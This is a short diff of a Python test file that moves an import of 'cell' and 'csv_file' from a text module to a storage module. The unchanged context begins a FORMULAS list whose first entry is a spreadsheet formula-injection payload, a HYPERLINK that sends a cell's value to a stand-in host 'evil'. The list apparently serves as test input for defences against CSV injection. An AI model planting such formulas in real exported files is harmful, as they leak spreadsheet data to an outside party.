@@ -4,7 +4,7 @@ import csv
 
 import pytest
 
-from minidl.text.tables import cell, csv_file
+from minidl.storage.tables import cell, csv_file
 
 FORMULAS = [
     '=HYPERLINK("http://evil/?"&A2,"cat")',
